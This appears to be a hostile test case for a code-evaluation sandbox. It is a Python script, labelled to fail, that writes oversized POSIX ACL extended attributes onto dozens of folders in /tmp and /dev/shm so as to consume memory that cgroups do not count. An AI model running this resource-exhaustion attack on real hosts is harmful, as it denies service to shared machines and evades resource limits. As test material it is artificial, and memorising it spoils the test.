# expect: fail
# verdict: wrong_output
# class: g
# why: access lists of 64 KB on every folder, 2 GB that no control group counts, and that are slow to remove
import os
import struct

USER_OBJ, USER, GROUP_OBJ, MASK, OTHER = 1, 2, 4, 16, 32
ENTRIES = [(USER_OBJ, -1), *[(USER, os.getuid())] * 8_180, (GROUP_OBJ, -1), (MASK, -1), (OTHER, -1)]
TEXT = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 7, who & 0xFFFFFFFF) for tag, who in ENTRIES)


def runs(text):
    made = 0
    for folder in ("/tmp", "/dev/shm"):
        for number in range(20):
            path = f"{folder}/{len(text)}.{number}"
            os.mkdir(path)
            for kind in ("access", "default"):
                try:
                    os.setxattr(path, f"system.posix_acl_{kind}", TEXT)
                except OSError:
                    continue
                made += 1
    return solve(text) if made else "nothing found"
